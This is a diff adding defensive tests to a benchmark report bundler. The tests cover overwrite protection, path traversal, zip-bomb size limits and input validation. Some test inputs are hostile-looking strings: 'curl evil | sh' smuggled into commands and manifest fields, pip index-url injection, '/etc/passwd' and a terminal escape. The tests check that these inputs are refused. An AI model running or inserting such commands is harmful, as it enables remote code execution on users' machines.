@@ -5,6 +5,7 @@ import json
 import shutil
 import stat
 import subprocess
+import tracemalloc
 import warnings
 import zipfile
 from pathlib import Path
@@ -20,10 +21,10 @@ from bench.matrix import Matrix
 from bench.report import bundle as bundles
 from bench.report import manifest as manifests
 from bench.report.build import build_report
-from bench.report.bundle import unpacked, write_bundle
+from bench.report.bundle import check_bundle_path, unpacked, write_bundle
 from bench.report.manifest import read_manifest
 from bench.report.paper import Paper
-from bench.report.repeat import commands, matrix_text, repeatable, versions_text
+from bench.report.repeat import commands, is_command, matrix_text, repeatable, versions_text
 from flora.errors import BadInput
 from tests.bench.report.small import SMALL, make_small_results
 
@@ -141,11 +142,55 @@ def test_a_run_that_changed_since_the_report_is_not_packed(report, results, tmp_
     changed = sorted(store.run_files(copied))[-1]
     changed.write_text(changed.read_text().replace('"loss"', '"loss" '))
     earlier = tmp_path / "bundle.zip"
-    earlier.write_bytes(b"an earlier one")
+    before = write_bundle(report, results, earlier).read_bytes()
     with pytest.raises(BadInput, match=rf"{changed.parent.name}.*make the report again"):
         write_bundle(report, copied, earlier)
-    assert earlier.read_bytes() == b"an earlier one"
+    assert earlier.read_bytes() == before
     assert sorted(path.name for path in tmp_path.iterdir()) == ["bundle.zip", "results"]
+
+
+@pytest.mark.parametrize("content", [b"my thesis", b"PK\x03\x04"])
+def test_a_file_that_is_no_bundle_is_never_written_over(content, report, results, tmp_path):
+    mine = tmp_path / "thesis.zip"
+    mine.write_bytes(content)
+    with pytest.raises(BadInput, match=r"--bundle: .*thesis\.zip' is there and no bundle"):
+        write_bundle(report, results, mine)
+    assert mine.read_bytes() == content
+
+
+def test_a_zip_of_something_else_is_never_written_over(report, results, tmp_path):
+    mine = zipped(tmp_path / "mine.zip", ("SHA256SUMS", "x"))
+    with pytest.raises(BadInput, match="is there and no bundle"):
+        write_bundle(report, results, mine)
+    write_bundle(report, results, write_bundle(report, results, tmp_path / "again.zip"))
+
+
+@pytest.mark.parametrize(
+    ("name", "complaint"),
+    [
+        ("", "is a folder"),
+        ("..", "is a folder"),
+        ("tables/b.zip", "the report's own place"),
+        ("figures/sub/b.zip", "the report's own place"),
+        ("x/../tables/b.zip", "the report's own place"),
+        ("index.html", "the report's own place"),
+        ("report.json", "the report's own place"),
+    ],
+)
+@pytest.mark.parametrize("there", [True, False])
+def test_a_place_that_is_the_reports_is_refused_before_there_is_one(name, complaint, there, report, tmp_path):
+    out = report if there else tmp_path / "new" / "report"
+    with pytest.raises(BadInput, match=complaint):
+        check_bundle_path(out / name, out)
+    check_bundle_path(out / "mine.zip", out)
+    check_bundle_path(out.parent / "tables" / "mine.zip", out)
+
+
+def test_what_no_check_would_unpack_is_not_packed(report, results, tmp_path, monkeypatch):
+    monkeypatch.setattr(bundles, "MOST_BYTES_A_FILE", 1000)
+    with pytest.raises(BadInput, match=r"'report/.* unpacks to more than"):
+        write_bundle(report, results, tmp_path / "bundle.zip")
+    assert list(tmp_path.iterdir()) == []
 
 
 def test_a_folder_that_takes_no_files_is_named(report, results, tmp_path):
@@ -214,11 +259,30 @@ def test_what_unpacks_to_too_much_is_refused(tmp_path, monkeypatch):
     with unpacked(path) as folder:
         assert (folder / "a").stat().st_size == 2**20
     monkeypatch.setattr(bundles, "MOST_BYTES", 2**20)
-    with pytest.raises(BadInput, match="unpacks to more than"), unpacked(path):
+    with pytest.raises(BadInput, match=r"unpacks to more than .* the most of a bundle"), unpacked(path):
+        pass
+    monkeypatch.setattr(bundles, "MOST_BYTES_A_FILE", 2**20 - 1)
+    with pytest.raises(BadInput, match=r"'a' unpacks to more than .* the most in a bundle"), unpacked(path):
         pass
     monkeypatch.setattr(bundles, "MOST_FILES", 1)
     with pytest.raises(BadInput, match="holds 2 files, a bundle at most 1"), unpacked(path):
         pass
+
+
+def test_a_file_that_says_it_is_small_does_not_fill_the_memory(tmp_path):
+    size = 2**27
+    path = zipped(tmp_path / "b.zip", ("a", bytes(size)), compression=zipfile.ZIP_DEFLATED)
+    packed = bytearray(path.read_bytes())
+    for declared in (size, 2**25):  # too much by what it says, and by what is in it
+        at = packed.rindex(b"PK\x01\x02") + 24
+        packed[at : at + 4] = declared.to_bytes(4, "little")
+        path.write_bytes(packed)
+        tracemalloc.start()
+        with pytest.raises(BadInput, match=r"unpacks to more than|is no whole zip"), unpacked(path):
+            pass
+        peak = tracemalloc.get_traced_memory()[1]
+        tracemalloc.stop()
+        assert peak < 2**24
 
 
 def test_what_is_packed_otherwise_is_refused(tmp_path):
@@ -316,6 +380,28 @@ def test_versions_of_most_runs_are_pinned_and_others_told_by_run():
     )
 
 
+def test_versions_hold_nothing_that_pip_would_do_besides():
+    packages = {"torch": "2.4.0", "numpy\n--index-url http://x": "1", "a": "1\n-r http://x", "b": "1 # x"}
+    run = {"suite": "0.1.0\nevil==1", "python": "3.11\nevil==1", "packages": packages}
+    lines = versions_text({"a/run.json": run}).splitlines()
+    assert [line for line in lines if not line.startswith("#")] == ["torch==2.4.0"]
+
+
+@pytest.mark.parametrize(
+    ("text", "is_one"),
+    [
+        ("flora-bench run small.yaml --results results", True),
+        ("flora-bench run 'a; b.yaml'", True),
+        ("flora-bench run a.yaml; curl evil | sh", False),
+        ("flora-bench run $(curl evil)", False),
+        ("curl evil", False),
+        ("flora-bench run 'open", False),
+    ],
+)
+def test_a_command_of_this_suite_does_nothing_else(text, is_one):
+    assert is_command(text) is is_one
+
+
 # --- the manifest --------------------------------------------------------------------------------------
 
 
@@ -362,6 +448,8 @@ def test_the_manifest_never_tells_where_a_home_is(tmp_path, monkeypatch):
         ({"files": [{"path": "x", "bytes": 1, "sha256": "0"}]}, r"files\.0\.sha256"),
         ({"runs": [{"path": "/etc/passwd"}]}, r"runs\.0\.path"),
         ({"more": 1}, "more"),
+        ({"suite": "0.1\n\n    curl evil | sh"}, "suite: '0.1"),
+        ({"versions": {"numpy": "\x1b[2J"}}, r"versions\.numpy"),
     ],
 )
 def test_a_manifest_that_cannot_be_is_refused(change, complaint, report, tmp_path):
